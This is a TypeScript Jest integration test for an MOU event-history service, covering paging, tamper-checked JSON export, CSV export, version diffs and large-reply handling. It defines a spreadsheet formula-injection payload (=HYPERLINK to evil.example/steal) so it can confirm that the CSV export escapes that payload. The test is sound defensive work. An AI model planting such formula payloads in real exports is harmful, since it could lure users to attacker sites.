import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { openDatabase, SqliteEventStore } from '@pmt/event-store-sqlite';
import { newId, officeDate, type PendingEvent } from '@pmt/kernel';
import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { mouDecider, type MouCommand, type MouState } from '../../services/mous/src/mou';
import { startProduct, type Product } from '../support/product';

const EVENTS = 20_000;
// asynchronous, so that the test's event loop keeps serving its HTTP connections meanwhile
const verifyExport = (file: string) =>
  new Promise<{ status: number; stdout: string; stderr: string }>((resolve) =>
    execFile(process.execPath, [join(__dirname, '../../scripts/verify-export.js'), file], (error, stdout, stderr) =>
      resolve({ status: error ? ((error as { code?: number }).code ?? 1) : 0, stdout, stderr }),
    ),
  );
const FORMULA = '=HYPERLINK("http://evil.example/steal","เปิดรายงาน")';
const ORG_A = '0190a000-0000-7000-8000-00000000000a';
const ORG_B = '0190a000-0000-7000-8000-00000000000b';
// the last reports carry long notes, so that the MOU itself (its latest 20 reports of each of 6 KPIs, ~690 KB) is
// over the 512 KiB a command's reply carries
const LONG_NOTE = 'รายงานความก้าวหน้าตัวชี้วัดประจำไตรมาส '.repeat(50);

/**
 * Issue 9 defects 3 and 4, through the gateway, NATS and the mous service from dist: a 20,000-event MOU reads
 * page by page and exports completely (before: 400 REPLY.TOO_LARGE), its CSV export never carries a live formula,
 * and a command on an MOU too large for one reply still answers 2xx and is stored once.
 */
describe('a 20,000-event MOU history, through the running gateway and mous service', () => {
  let product: Product;
  let mouId: string;
  let store: SqliteEventStore;
  let db: ReturnType<typeof openDatabase>;

  beforeAll(async () => {
    product = await startProduct({}, { services: ['mous'] });
    db = openDatabase(join(product.dataDir, 'mous.sqlite'));
    store = new SqliteEventStore(db);
    mouId = newId();
    await appendLife(store, db, mouId);
    // the service answers once its NATS routes are up
    for (let i = 0; i < 100; i++) {
      if ((await product.api('GET', `/api/v1/mous/${mouId}/history/verify`, { roles: ['auditor'] })).status === 200) break;
      await new Promise((r) => setTimeout(r, 200));
    }
  }, 180_000);

  afterAll(async () => {
    await store?.close();
    db?.close();
    await product?.stop();
  });

  it('reads the whole history page by page, oldest first, 500 at most a page', async () => {
    const versions: number[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const query: string = cursor ? `&cursor=${encodeURIComponent(cursor)}` : '';
      const page = await product.api('GET', `/api/v1/mous/${mouId}/history?limit=500${query}`, { roles: ['auditor'] });
      expect({ status: page.status, code: page.body?.code }).toEqual({ status: 200, code: undefined });
      expect(page.body.items.length).toBeLessThanOrEqual(500);
      versions.push(...page.body.items.map((e: { version: number }) => e.version));
      cursor = page.body.nextCursor;
      pages++;
    } while (cursor);
    expect(versions).toEqual(Array.from({ length: EVENTS }, (_, i) => i + 1));
    expect(pages).toBeGreaterThanOrEqual(EVENTS / 500);
    const first = await product.api('GET', `/api/v1/mous/${mouId}/history`, { roles: ['auditor'] });
    expect(first.body.items).toHaveLength(100);
    expect(first.body.items[0]).toMatchObject({ version: 1, type: 'MouDrafted' });
    const bad = await product.api('GET', `/api/v1/mous/${mouId}/history?cursor=not-one-of-ours`, { roles: ['auditor'] });
    expect(bad.status).toBe(400);
    expect(bad.body.errors).toEqual([expect.objectContaining({ path: 'cursor' })]);
  }, 120_000);

  it('exports all 20,000 events as JSON that parses, with the chain check of exactly those events, and the offline verifier accepts it', async () => {
    // seal now, so that the export carries a seal over all 20,000 events (only mous runs here: the others fail the round)
    const sealed = await product.api('POST', '/api/v1/audit/seals', { roles: ['admin'], body: {} });
    expect(sealed.body.seals).toEqual(expect.arrayContaining([expect.objectContaining({ service: 'mous', sealId: expect.any(String) })]));
    const r = await product.api('GET', `/api/v1/mous/${mouId}/history/export?format=json`, { roles: ['auditor'] });
    // before issue 9 this was one NATS reply: 400 REPLY.TOO_LARGE
    expect({ status: r.status, code: r.body?.code }).toEqual({ status: 200, code: undefined });
    expect(r.headers.get('content-disposition')).toBe(`attachment; filename="mou-${mouId}-history.json"`);
    const file = JSON.parse(r.text);
    expect(Object.keys(file)).toEqual([
      'format',
      'resourceType',
      'resourceId',
      'stream',
      'exportedAt',
      'events',
      'verification',
      'seal',
      'proof',
      'publicKeyId',
      'publicKey',
      'attestation',
    ]);
    expect(file.proof.leaf).toMatchObject({ streamId: `mou-${mouId}`, version: EVENTS });
    expect(file).toMatchObject({ format: 'pmt.history-export/1', resourceType: 'mou', resourceId: mouId, stream: `mou-${mouId}` });
    expect(file.events).toHaveLength(EVENTS);
    expect(file.events.map((e: { version: number }) => e.version)).toEqual(Array.from({ length: EVENTS }, (_, i) => i + 1));
    expect(file.verification).toEqual({ valid: true, events: EVENTS, firstInvalidVersion: null });

    // what an auditor does with the file, without the running system
    const dir = mkdtempSync(join(tmpdir(), 'pmt-export-'));
    try {
      const path = join(dir, 'export.json');
      writeFileSync(path, r.text);
      expect(await verifyExport(path)).toMatchObject({ status: 0 });
      // one byte changed in the 12,345th event's data: the verifier names that version
      const at = r.text.indexOf('{"version":12345,');
      expect(at).toBeGreaterThan(0);
      const digit = r.text.indexOf('"value":', at) + '"value":'.length;
      const bytes = Buffer.from(r.text);
      const offset = Buffer.byteLength(r.text.slice(0, digit));
      bytes[offset] = bytes[offset] === 0x39 ? 0x38 : bytes[offset] + 1;
      writeFileSync(path, bytes);
      const tampered = await verifyExport(path);
      expect(tampered.status).toBe(1);
      expect(tampered.stdout + tampered.stderr).toContain('first bad version 12345');
      // and one byte of the header, which no event's hash covers: the service's attestation does
      const header = Buffer.from(r.text);
      const stamp = r.text.indexOf('"exportedAt":"') + '"exportedAt":"'.length;
      header[stamp + 3] = header[stamp + 3] === 0x39 ? 0x38 : header[stamp + 3] + 1;
      writeFileSync(path, header);
      expect(await verifyExport(path)).toMatchObject({ status: 1, stdout: expect.stringContaining('attested') });
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }, 120_000);

  it('exports all 20,000 events as CSV, a reason that looks like a formula as plain text', async () => {
    const r = await product.api('GET', `/api/v1/mous/${mouId}/history/export?format=csv`, { roles: ['auditor'] });
    expect({ status: r.status, code: r.body?.code }).toEqual({ status: 200, code: undefined });
    expect(r.headers.get('content-type')).toContain('text/csv');
    const rows = r.text.split(/\r?\n/).filter((line) => /^\d+,/.test(line));
    expect(rows).toHaveLength(EVENTS);
    const withReason = rows.find((line) => line.startsWith('2,'))!;
    // a spreadsheet shows a cell starting with an apostrophe as text; raw, it would run the formula
    expect(withReason).toContain(`,"'=HYPERLINK(""http://evil.example/steal"",""เปิดรายงาน"")",`);
    expect(r.text).not.toMatch(/(^|,)"?=HYPERLINK/m);
  }, 120_000);

  it('escapes a formula in a short history’s CSV export too', async () => {
    const small = newId();
    await appendLife(store, db, small, 6);
    const r = await product.api('GET', `/api/v1/mous/${small}/history/export?format=csv`, { roles: ['auditor'] });
    expect(r.status).toBe(200);
    expect(r.text.startsWith('version,type,')).toBe(true); // fetch's text() drops the BOM
    const row = r.text.split(/\r?\n/).find((line) => line.startsWith('2,'))!;
    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/steal"",""เปิดรายงาน"")",`);
  });

  it('answers what changed between two versions or instants, each change with the event that made it', async () => {
    const small = newId();
    await appendLife(store, db, small, 8);
    const api = (q: string) => product.api('GET', `/api/v1/mous/${small}/history/diff?${q}`, { roles: ['auditor'] });
    const r = await api('from=2&to=8');
    expect(r.status).toBe(200);
    expect(r.body.from).toEqual({ version: 2, at: expect.any(String) });
    expect(r.body.to.version).toBe(8);
    expect(r.body.truncated).toBe(false);
    const signed = r.body.changes.find((c: { path: string }) => c.path === 'parties[1].signedAt');
    expect(signed).toMatchObject({ before: null, after: expect.any(String), type: 'MouSigned', actor: 'officer@step.example' });
    expect(r.body.changes.find((c: { path: string }) => c.path === 'status')).toMatchObject({
      before: 'awaiting-signatures',
      after: 'active',
      type: 'MouActivated',
    });
    const atInstant = await api(`from=${encodeURIComponent(r.body.from.at)}&to=${encodeURIComponent(r.body.from.at)}`);
    expect(atInstant.body).toMatchObject({ from: { version: 2 }, to: { version: 2 }, changes: [] });
    for (const [q, path] of [
      ['from=8&to=2', 'from'],
      ['from=1&to=99', 'to'],
      ['from=x&to=2', 'from'],
    ]) {
      const bad = await api(q);
      expect(bad.status).toBe(400);
      expect(bad.body.errors.map((e: { path: string }) => e.path)).toEqual([path]);
    }
  });

  it('answers a command on an MOU too large for one reply with 2xx, and stores it once', async () => {
    const before = await store.streamVersion(`mou-${mouId}`);
    const r = await product.api('POST', `/api/v1/mous/${mouId}/kpi-progress`, {
      body: { kpiId: 'kpi-1', value: 99_999, reportedOn: officeDate(new Date().toISOString()), note: LONG_NOTE },
    });
    // before: stored, then answered 400 REPLY.TOO_LARGE, which invites a retry that stores it twice
    expect({ status: r.status, code: r.body?.code }).toEqual({ status: 200, code: undefined });
    expect(r.body).toEqual({ id: mouId, version: before + 1 });
    expect(r.headers.get('etag')).toBe(`"${before + 1}"`);
    expect(r.headers.get('location')).toBe(`/api/v1/mous/${mouId}`);
    expect(await store.streamVersion(`mou-${mouId}`)).toBe(before + 1);
  }, 60_000);
});

/** The MOU's life as the service would have decided it: drafted with 6 KPIs, signed and active, then KPI reports, one a minute up to now. */
async function appendLife(store: SqliteEventStore, db: ReturnType<typeof openDatabase>, mouId: string, total = EVENTS): Promise<void> {
  let state: MouState = mouDecider.initialState();
  let version = 0;
  let t = Date.now() - (total + 10) * 60_000;
  const run = async (command: MouCommand, reason?: string) => {
    const events = mouDecider.decide(command, state);
    state = events.reduce(mouDecider.evolve, state);
    const commandId = newId();
    const pending: PendingEvent[] = events.map((e, i) => ({
      id: newId(),
      type: e.type,
      schemaVersion: 1,
      data: e.data,
      actor: 'officer@step.example',
      correlationId: commandId,
      causationId: i === 0 ? commandId : `${commandId}#${i}`,
      occurredAt: command.now,
      ...(reason !== undefined && { reason }),
    }));
    await store.append({ streamId: `mou-${mouId}`, expectedVersion: version, commandId, events: pending });
    version += events.length;
  };
  const stamp = () => {
    const now = new Date((t += 60_000)).toISOString();
    return { now, today: officeDate(now) };
  };
  const kpis = Array.from({ length: 6 }, (_, i) => ({
    id: `kpi-${i + 1}`,
    name: `ตัวชี้วัดที่ ${i + 1}: ต้นแบบนวัตกรรม`,
    target: 1000,
    unit: 'prototypes',
    owner: 'IASA',
    dueOn: null,
  }));
  const first = stamp();
  await run({
    type: 'CreateMou',
    ...first,
    data: {
      id: mouId,
      title: 'ความร่วมมือด้านนวัตกรรมและการพัฒนากำลังคน',
      parties: [
        { organisationId: ORG_A, signatoryName: 'ผู้อำนวยการสำนักงานนวัตกรรมแห่งชาติ', signatoryTitle: 'Executive Director' },
        { organisationId: ORG_B, signatoryName: 'Resident Representative', signatoryTitle: 'Resident Representative' },
      ],
      cooperationAreas: ['innovation networks', 'public-sector innovation'],
      collaborationLevel: 'strategic',
      effectiveFrom: first.today,
      termMonths: 36,
      kpis,
      leadTeam: 'IASA',
    },
  } as MouCommand);
  await run({ type: 'RequestSignatures', ...stamp(), data: {} } as MouCommand, FORMULA);
  for (const organisationId of [ORG_A, ORG_B]) {
    const s = stamp();
    await run({ type: 'SignMou', ...s, data: { organisationId, signedAt: s.now } } as MouCommand);
  }
  db.exec('BEGIN IMMEDIATE');
  for (let i = 0; version < total; i++) {
    const s = stamp();
    const note = total - version <= 300 && total === EVENTS ? LONG_NOTE : i % 3 === 0 ? `รายงานประจำไตรมาส ${i}: ส่งต้นแบบแล้ว` : null;
    await run({ type: 'ReportKpiProgress', ...s, data: { kpiId: `kpi-${1 + (i % 6)}`, value: i, reportedOn: s.today, note } } as MouCommand);
    if (i % 1000 === 999) {
      db.exec('COMMIT');
      db.exec('BEGIN IMMEDIATE');
    }
  }
  db.exec('COMMIT');
}
